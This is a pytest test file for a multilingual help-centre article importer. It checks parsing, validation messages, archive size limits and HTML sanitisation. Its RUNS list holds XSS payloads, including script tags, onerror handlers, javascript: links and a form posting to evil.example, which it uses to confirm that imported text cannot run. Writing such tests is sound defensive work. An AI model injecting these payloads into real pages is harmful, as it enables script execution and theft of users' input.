"""Articles and macros in the forms in which desks have them, and what is wrong with such files."""

import csv
import gzip
import io
import json
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from markdown_it import MarkdownIt

from kb.errors import BadArticle, NothingToImport
from kb.files import MAX_FILE
from kb.importers import read
from kb.types import Article, Audience, Macro

PAGES = {
    "vi": ("Đổi trả hàng", "Bạn được đổi trả trong <b>30 ngày</b>.", "Bạn được đổi trả trong **30 ngày**."),
    "th": ("การคืนสินค้า", "คืนได้ภายใน <b>30 วัน</b>", "คืนได้ภายใน **30 วัน**"),
    "zh-Hans": ("怎么退货", "<b>30天</b>内可以退货。", "**30天**内可以退货。"),
    "zh-Hant": ("怎麼退貨", "<b>30天</b>內可以退貨。", "**30天**內可以退貨。"),
    "ru": ("Как вернуть товар", "Вернуть можно за <b>30 дней</b>.", "Вернуть можно за **30 дней**."),
    "en": ("How to return an item", "You have <b>30 days</b>.", "You have **30 days**."),
}
QUESTIONS = {
    "vi": ("Bao lâu thì được hoàn tiền?", "Tiền về trong 5 ngày làm việc; thẻ tín dụng có thể lâu hơn."),
    "th": ("คืนเงินกี่วัน", "ภายใน 5 วันทำการ, บัตรเครดิตอาจนานกว่า"),
    "zh-Hans": ("退款多久到账？", "5个工作日内到账，“原路退回”。"),
    "zh-Hant": ("退款多久入帳？", "5個工作天內入帳，「原路退回」。"),
    "ru": ("Когда вернут деньги?", "За 5 рабочих дней; на «кредитку» дольше."),
    "en": ("When do I get my money back?", 'Within 5 working days, "credit cards" may take longer.'),
}


def problems_of(path: Path, **options: Any) -> str:
    with pytest.raises(BadArticle) as caught:
        read([path], **options)
    return "\n".join(caught.value.problems)


@pytest.mark.parametrize("language", PAGES)
def test_a_page_of_html_is_an_article_in_markdown(tmp_path: Path, language: str) -> None:
    title, html, markdown = PAGES[language]
    (tmp_path / "pages").mkdir()
    (tmp_path / "pages" / "returns.html").write_text(
        f"<!doctype html><html lang='{language}'><head><title>{title}</title><meta charset='utf-8'>"
        "<meta name='keywords' content='returns, money'><meta name='valid_until' content='2027-01-31'></head>"
        f"<body><nav>Home</nav><main><h1>{title}</h1><p>{html}</p><script>track()</script></main></body></html>",
        encoding="utf-8",
    )
    assert read([tmp_path]).articles == (
        Article(
            "pages/returns", language, title, markdown, tags=("returns", "money"), valid_until=date(2027, 1, 31)
        ),
    )  # fmt: skip


def test_a_page_takes_its_language_from_its_folder_or_from_the_caller(tmp_path: Path) -> None:
    for folder in ("zh-tw", "app"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "a.html").write_text("<h1>退貨</h1><p>30天內可以退貨。</p>", encoding="utf-8")
    assert "app/a.html: has no language" in problems_of(tmp_path)
    found = read([tmp_path], language="zh-Hant").articles
    assert [(a.id, a.language, a.title, a.body) for a in found] == [
        ("app/a", "zh-Hant", "退貨", "30天內可以退貨。"),
        ("zh-tw/a", "zh-Hant", "退貨", "30天內可以退貨。"),
    ]


RUNS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' JaVa&#115;cript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<b onclick=alert(1)>x</b>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<style>@import 'https://evil.example'</style>",
    "<form action='https://evil.example'><input name=pin></form>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "![x](vbscript:alert)",
    "[x][1]\n\n[1]: data:text/html;base64,PHNjcmlwdD4=\n\n",
    "<https://evil.example/onmouseover=alert(1)/>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
]


@pytest.mark.parametrize("attack", RUNS)
@pytest.mark.parametrize("suffix", ["html", "md", "jsonl"])
def test_nothing_in_an_article_can_run_in_a_page_that_shows_it(tmp_path: Path, attack: str, suffix: str) -> None:
    body = f"Trước {attack} sau"
    title = "Đổi trả <img src=x onerror=alert(1)>"
    if suffix == "html":
        text = f"<html lang=vi><title>{title.replace('<', '&lt;')}</title><body><p>{body}</p></body></html>"
    elif suffix == "md":
        text = f"---\nid: a\nlanguage: vi\ntitle: {title}\n---\n{body}"
    else:
        text = json.dumps({"id": "a", "language": "vi", "title": title, "body": body})
    (tmp_path / f"a.{suffix}").write_text(text, encoding="utf-8")
    (article,) = read([tmp_path]).articles
    # Put into a page as it is, and by a renderer of Markdown that lets HTML and every link through.
    lax = MarkdownIt("commonmark", {"html": True})
    lax.validateLink = bool  # type: ignore[assignment, method-assign]
    for shown in (article.title, article.body):
        assert BeautifulSoup(shown, "html.parser").find() is None
        page = BeautifulSoup(lax.render(shown), "html.parser")
        assert {element.name for element in page.find_all()} <= {"p", "a", "strong", "em", "br"}
        assert {name for element in page.find_all() for name in element.attrs} <= {"href"}
        assert all(str(a["href"]).startswith("https://") for a in page.find_all("a"))
    assert article.body.startswith("Trước")
    assert "sau" in article.body


def test_markdown_without_html_stays_as_it_was_written(tmp_path: Path) -> None:
    steps = "## Bước 1\n\n1. Mở *Đơn hàng*\n2. a < b, <3, [xem](https://shop.example/a?b=1&c=2)"
    body = f"{steps}\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    (tmp_path / "a.md").write_text(f"---\nid: a\nlanguage: vi\ntitle: T\n---\n{body}", encoding="utf-8")
    assert read([tmp_path]).articles[0].body == body


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_questions_and_answers_come_from_csv(tmp_path: Path, separator: str) -> None:
    written = io.StringIO()
    writer = csv.writer(written, delimiter=separator)
    writer.writerow(["Question", "Answer", "Language", "Tags"])
    for language, (question, answer) in QUESTIONS.items():
        writer.writerow([question, answer, language, "money; refund"])
    (tmp_path / "faq.csv").write_text(written.getvalue(), encoding="utf-8-sig")
    found = read([tmp_path]).articles
    assert [(a.language, a.title, a.body, a.tags) for a in found] == [
        (language, *QUESTIONS[language], ("money", "refund")) for language in QUESTIONS
    ]
    # The question is its own id: a new order, a mended answer, and it is still the same article.
    writer.writerow(["Kdy dostanu peníze?", "Za 5 dní.", "cs", ""])
    (tmp_path / "faq.csv").write_text(written.getvalue().replace("5 ", "6 "), encoding="utf-8")
    assert [a.id for a in read([tmp_path]).articles[:6]] == [a.id for a in found]


@pytest.mark.parametrize("language", QUESTIONS)
def test_questions_and_answers_come_from_jsonl(tmp_path: Path, language: str) -> None:
    question, answer = QUESTIONS[language]
    row = {"question": question, "answer": answer}
    (tmp_path / "faq.jsonl").write_text(json.dumps(row, ensure_ascii=False), encoding="utf-8")
    (article,) = read([tmp_path], language=language).articles
    assert (article.language, article.title, article.body) == (language, question, answer)


def test_macros_come_from_plain_text_and_csv(tmp_path: Path) -> None:
    (tmp_path / "th").mkdir()
    (tmp_path / "th" / "ขออภัย-ล่าช้า.txt").write_text("ขออภัยค่ะคุณ{{customer_name}}\r\nพัสดุกำลังไปค่ะ", encoding="utf-8")
    (tmp_path / "macros.csv").write_text(
        "id,title,language,intents,text\nru-hi,Привет,ru,order.status;order.cancel,Здравствуйте!\n", encoding="utf-8"
    )
    assert set(read([tmp_path]).macros) == {
        Macro("th/ขออภัย-ล่าช้า", "ขออภัย ล่าช้า", "th", (), "ขออภัยค่ะคุณ{{customer_name}}\nพัสดุกำลังไปค่ะ"),
        Macro("ru-hi", "Привет", "ru", ("order.status", "order.cancel"), "Здравствуйте!"),
    }


def zendesk() -> dict[str, Any]:
    """Three articles: one with a translation, one for staff, one that is not finished."""
    common = {"author_id": 7, "position": 0, "promoted": False, "user_segment_id": None, "permission_group_id": 5}
    return {
        "count": 3,
        "next_page": None,
        "categories": [{"id": 1, "name": "ร้านค้า", "locale": "th"}],
        "sections": [{"id": 11, "category_id": 1, "name": "คืนสินค้า", "locale": "th"}],
        "articles": [
            common
            | {
                "id": 3600,
                "locale": "th",
                "source_locale": "th",
                "title": "คืนสินค้าอย่างไร",
                "name": "คืนสินค้าอย่างไร",
                "body": "<h2>ขั้นตอน</h2><ol><li>เปิดแอป</li><li>กด <strong>คืน</strong></li></ol>",
                "section_id": 11,
                "label_names": ["returns"],
                "draft": False,
                "outdated": False,
                "updated_at": "2026-10-01T08:00:00Z",
                "edited_at": "2026-09-30T08:00:00Z",
            },
            common
            | {
                "id": 3601,
                "locale": "zh-tw",
                "source_locale": "zh-tw",
                "title": "客服人員守則",
                "body": "<p>最高可補償三百元。</p>",
                "section_id": 11,
                "user_segment_id": 42,
                "draft": False,
            },
            common
            | {
                "id": 3602,
                "locale": "en-us",
                "title": "Soon",
                "body": "<p>To come.</p>",
                "section_id": 9,
                "draft": True,
            },
        ],
        "translations": [
            {"id": 1, "source_id": 3600, "locale": "th", "title": "ซ้ำ", "body": "<p>ซ้ำ</p>", "draft": False},
            {
                "id": 2,
                "source_id": 3600,
                "locale": "vi",
                "title": "Trả hàng",
                "body": "<p>Mở ứng dụng.</p>",
                "draft": False,
            },
        ],
    }


def test_a_help_centre_export_is_read_with_its_sections_languages_labels_and_flags(tmp_path: Path) -> None:
    (tmp_path / "export.json").write_text(json.dumps(zendesk()), encoding="utf-8")
    returns, staff, draft, translation = read([tmp_path]).articles
    assert returns == Article(
        id="3600/th",
        language="th",
        title="คืนสินค้าอย่างไร",
        body="## ขั้นตอน\n\n1. เปิดแอป\n2. กด **คืน**",
        tags=("returns",),
        section="ร้านค้า / คืนสินค้า",
        edited_at=datetime(2026, 9, 30, 8, tzinfo=UTC),
    )
    assert (staff.id, staff.audience) == ("3601/zh-Hant", Audience.INTERNAL)
    assert (draft.id, draft.draft) == ("3602/en", True)
    assert (translation.id, translation.translation_of, translation.section) == ("3600/vi", "3600/th", returns.section)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"body": "<p><img src='x.png'></p>"}, "article 1: has no body"),
        ({"body": None}, "article 1: has no body"),
        ({"locale": "klingonese"}, "article 1: unknown language code 'klingonese'"),
        ({"title": "", "name": ""}, "article 1: has no title"),
        ({"id": None}, "article 1: has no id"),
        ({"id": [1]}, "article 1: id '[1]/th' should be"),
        ({"body": "<div>" * 5_000 + "ลึก"}, "article 1: has HTML that is nested too deeply"),
        ({"updated_at": "yesterday", "edited_at": None}, "updated_at 'yesterday' should be a moment"),
        ({"label_names": "returns"}, "tags should be a list of words"),
        ({"label_names": [f"tag {n}" for n in range(101)]}, "has 101 tags; the limit is 100"),
        ({"label_names": ["ok", "long " * 60]}, "tag 'long long long long long long long long '… has 299 characters"),
        ({"user_segment_id": None, "body": 5}, None),
    ],
)
def test_what_is_wrong_in_an_export_is_named(tmp_path: Path, change: dict[str, Any], said: str | None) -> None:
    export = zendesk()
    export["articles"][0] |= change
    (tmp_path / "export.json").write_text(json.dumps(export), encoding="utf-8")
    if said is None:
        assert read([tmp_path]).articles[0].body == "5"
    else:
        assert said in problems_of(tmp_path)
        # A person in a hurry takes the rest.
        kept = read([tmp_path], keep_going=True)
        assert "3601/zh-Hant" in [article.id for article in kept.articles]
        assert said in "\n".join(kept.problems)


@pytest.mark.parametrize(
    "segment", [{"user_segment_id": 1}, {"user_segment_ids": [1]}, {"internal": True}, {"section": "staff"}]
)
def test_what_not_everybody_may_see_is_internal(tmp_path: Path, segment: dict[str, Any]) -> None:
    export = zendesk()
    if "section" in segment:
        export["sections"][0]["access_policy"] = {"viewable_by": segment["section"]}
    else:
        export["articles"][0] |= segment
    (tmp_path / "export.json").write_text(json.dumps(export), encoding="utf-8")
    audiences = {article.id: article.audience for article in read([tmp_path]).articles}
    assert audiences["3600/th"] == audiences["3600/vi"] == Audience.INTERNAL


def test_an_archive_is_read_like_the_folder_that_was_packed(tmp_path: Path) -> None:
    folder = tmp_path / "help"
    (folder / "ru").mkdir(parents=True)
    (folder / "ru" / "возврат.html").write_text("<h1>Возврат</h1><p>За 30 дней.</p>", encoding="utf-8")
    (folder / "export.json").write_text(json.dumps(zendesk()), encoding="utf-8")
    (folder / "faq.jsonl.gz").write_bytes(gzip.compress(b'{"question": "Open?", "answer": "Yes.", "language": "en"}'))
    with zipfile.ZipFile(tmp_path / "help.zip", "w") as archive:
        for file in sorted(folder.rglob("*.*")):
            archive.write(file, file.relative_to(folder))
        archive.writestr("__MACOSX/._export.json", b"\0\0")
        archive.writestr("logo.png", b"\x89PNG")
    assert set(read([tmp_path / "help.zip"]).articles) == set(read([folder]).articles)


def test_a_broken_archive_is_named(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "whole.zip", "w") as archive:
        archive.writestr("a.md", "---\nid: a\n---\n" + "Tạm biệt. " * 500)
    content = (tmp_path / "whole.zip").read_bytes()
    (tmp_path / "whole.zip").unlink()
    (tmp_path / "half.zip").write_bytes(content[: len(content) // 2])
    assert "half.zip: is no whole zip archive" in problems_of(tmp_path)
    (tmp_path / "half.zip").write_bytes(content[:60] + b"????" + content[64:])
    assert "cannot be read (Bad CRC-32 for file 'a.md')" in problems_of(tmp_path)


def test_an_archive_that_unpacks_to_more_than_the_limit_is_not_unpacked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("kb.files.MAX_ARCHIVE", 2**20)
    with zipfile.ZipFile(tmp_path / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b" " * 2**21)
    assert (tmp_path / "bomb.zip").stat().st_size < 10_000
    assert "holds 2 MB unpacked; the limit is 1 MB" in problems_of(tmp_path)


@pytest.mark.parametrize("suffix", ["html", "md", "json", "txt", "yaml"])
def test_a_file_of_100_mb_is_refused_by_its_size(tmp_path: Path, suffix: str) -> None:
    with (tmp_path / f"huge.{suffix}").open("wb") as file:
        file.truncate(100 * 10**6)
    assert f"has 95 MB; the limit is {MAX_FILE // 2**20} MB. Split it" in problems_of(tmp_path)


def test_rows_may_be_100_mb_together(tmp_path: Path) -> None:
    body = "Đổi trả trong 30 ngày. " * 4_000
    with (tmp_path / "many.jsonl").open("w", encoding="utf-8") as file:
        for number in range(900):
            file.write(json.dumps({"id": f"a{number}", "language": "vi", "title": "T", "body": body}) + "\n")
    assert (tmp_path / "many.jsonl").stat().st_size > 100 * 10**6
    assert len(read([tmp_path]).articles) == 900


def test_broken_html_is_read_as_browsers_do(tmp_path: Path) -> None:
    (tmp_path / "a.html").write_text(
        "<html lang=en><title>Odd</title><p>One <b>two<p>three</i></div><table><tr><td>four", encoding="utf-8"
    )
    (article,) = read([tmp_path]).articles
    assert all(word in article.body for word in ("One", "two", "three", "four"))


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("a.html", "<html lang=th><title>ว่าง</title><body><img src=x></body>", "has no body"),
        ("a.html", "<html lang=th><body><p>ไม่มีชื่อ</p>", "has no title"),
        ("a.csv", "question,answer,language\nBao lâu?,5 ngày,vi,thừa\n", "a.csv:2: has more cells than the header"),
        ("a.csv", "question,answer,language\n,5 ngày,vi\n", "has no title"),
        ("a.csv", b"question,answer,language\n\xd0\xff,x,ru\n", "cannot be read"),
        ("a.json", '{"articles": [', "is not JSON"),
        ("a.json", '{"articles": [5]}', "article 1: should be an object"),
        ("a.json", '{"articles": [], "translations": [{"source_id": 1}]}', "names no article of this export"),
        ("a.json", '{"articles": [], "translations": [{"source_id": [1]}]}', "names no article of this export"),
        ("a.json", '{"articles": [], "sections": {"11": "Returns"}}', "sections should be a list, and is dict"),
        ("a.docx", b"PK", "a.docx: is of no kind that is read"),
        ("a.md", "---\nid: a\nlanguage: th\ntitle: ลึก\n---\n" + "<div>" * 5_000, "nested too deeply"),
        ("a.json", "[" * 100_000, "cannot be read"),
        ("a.txt", "Спасибо!", "has no language"),
        ("a.jsonl", '{"id": "a", "language": "ru", "title": "Т", "body": "т", "valid_from": "завтра"}', "'завтра'"),
        (
            "a.jsonl",
            '{"id": "a", "language": "ru", "title": "Т", "body": "т", "valid_until": "2026-5-1"}',
            "valid_until '2026-5-1' should be a day, as 2026-11-30",
        ),
        ("a.jsonl", '{"id": "a", "language": "ru", "title": "Т", "body": "т", "draft": "maybe"}', "'maybe'"),
    ],
)
def test_bad_files_are_named(tmp_path: Path, name: str, content: str | bytes, said: str) -> None:
    (tmp_path / name).write_bytes(content if isinstance(content, bytes) else content.encode())
    assert said in problems_of(tmp_path / name)


def test_validity_that_ends_before_it_begins_is_named(tmp_path: Path) -> None:
    row = {
        "id": "a",
        "language": "ru",
        "title": "Т",
        "body": "т",
        "valid_from": "2026-05-02",
        "valid_until": "2026-05-01",
    }
    (tmp_path / "a.jsonl").write_text(json.dumps(row), encoding="utf-8")
    assert "valid_until (2026-05-01) lies before valid_from (2026-05-02)" in problems_of(tmp_path)


def test_a_member_that_needs_a_password_is_named_and_the_others_are_read(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "help.zip", "w") as archive:
        for name in ("a", "b"):
            archive.writestr(f"{name}.md", f"---\nid: {name}\nlanguage: vi\ntitle: T\n---\nTạm biệt.")
    content = bytearray((tmp_path / "help.zip").read_bytes())
    # The first bit of a member's flags says that it is encrypted; they stand in both its headers.
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    (tmp_path / "help.zip").write_bytes(content)
    found = read([tmp_path], keep_going=True)
    assert [article.id for article in found.articles] == ["b"]
    assert "help.zip/a.md: cannot be read" in found.problems[0]
    assert "password" in found.problems[0]


def test_translations_that_go_round_in_a_circle_are_named(tmp_path: Path) -> None:
    of = {"a": "b", "b": "c", "c": "a", "d": "a", "e": None}
    rows = [
        {"id": key, "language": "en", "title": key, "body": key, "translation_of": value} for key, value in of.items()
    ]
    (tmp_path / "a.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    assert "translations go round in a circle: a → b → c → a" in problems_of(tmp_path)
    assert {article.id for article in read([tmp_path], keep_going=True).articles} == {"d", "e"}


def test_with_nothing_good_in_it_keep_going_stops(tmp_path: Path) -> None:
    (tmp_path / "a.md").write_text("no front matter")
    with pytest.raises(NothingToImport, match="has no front matter"):
        read([tmp_path], keep_going=True)
